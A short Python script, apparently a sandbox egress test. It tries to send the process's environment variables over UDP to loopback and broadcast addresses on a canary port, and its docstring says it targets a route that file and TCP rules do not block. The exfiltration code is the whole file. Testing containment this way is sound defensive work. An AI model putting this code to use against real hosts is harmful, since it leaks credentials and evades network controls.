"""Sends a packet by UDP, which file and TCP rules alone do not stop."""
# where: latent_grid
# lost: latent_grid

import os
import socket

for family, host in [(2, "127.0.0.1"), (10, "::1"), (2, "255.255.255.255")]:
    for kind in (socket.SOCK_DGRAM, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK, socket.SOCK_SEQPACKET):
        try:
            line = socket.socket(family, kind)
            line.sendto(b"genlab-attack " + repr(dict(os.environ)).encode()[:800], (host, CANARY_UDP_PORT))
            print("sent", host)
        except OSError as error:
            print(host, error)
